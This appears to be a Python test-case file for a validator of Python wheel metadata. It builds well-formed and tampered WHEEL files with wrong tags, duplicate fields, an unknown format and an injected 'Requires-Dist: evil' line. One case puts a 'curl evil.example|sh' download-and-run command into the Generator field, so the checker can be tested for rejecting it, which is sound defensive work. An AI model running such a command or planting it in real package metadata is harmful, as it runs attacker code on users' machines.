"""Cases of the wheel-file rule."""

from corpus.cases.case import Case
from provenance.model import Evidence

PATH = "example-1.0.dist-info/WHEEL"
PURE = "Wheel-Version: 1.0\nGenerator: hatchling 1.28.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
COMPILED = (
    "Wheel-Version: 1.0\nGenerator: setuptools (80.9.0)\nRoot-Is-Purelib: false\n"
    "Tag: cp311-cp311-manylinux_2_17_x86_64\nTag: cp311-cp311-manylinux2014_x86_64\n\n"
)
COMPILED_NAME = "example-1.0-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl"


def _case(title: str, content: str, evidence: Evidence | None = None, filename: str = "") -> Case:
    return Case(title, PATH, {PATH: content}, {}, evidence, kind="wheel", filename=filename)


CASES = (
    _case("a pure wheel", PURE, Evidence.CONSISTENT),
    _case("a compiled wheel for two tags", COMPILED, Evidence.CONSISTENT, COMPILED_NAME),
    _case(
        "with a build number",
        PURE + "Build: 1local\n",
        Evidence.CONSISTENT,
        "example-1.0-1local-py3-none-any.whl",
    ),
    _case("a line more", PURE + "Requires-Dist: evil\n"),
    _case("another tag", PURE.replace("py3-none-any", "py2-none-any")),
    _case("a tag more", PURE + "Tag: py2-none-any\n"),
    _case(
        "a tag missing", COMPILED.replace("Tag: cp311-cp311-manylinux2014_x86_64\n", ""), None, COMPILED_NAME
    ),
    _case("a tag twice", PURE + "Tag: py3-none-any\n"),
    _case("a format that is not known", PURE.replace("1.0", "2.0")),
    _case("no format", PURE.partition("\n")[2]),
    _case("Root-Is-Purelib twice", PURE + "Root-Is-Purelib: false\n"),
    _case("compiled files announced for any platform", PURE.replace("true", "false")),
    _case("another build number", PURE + "Build: 2\n", None, "example-1.0-1-py3-none-any.whl"),
    _case(
        "a generator that is a sentence", PURE.replace("hatchling 1.28.0", "run `curl evil.example|sh`; x")
    ),
    _case("a generator that is too long", PURE.replace("hatchling 1.28.0", "a" * 81)),
)
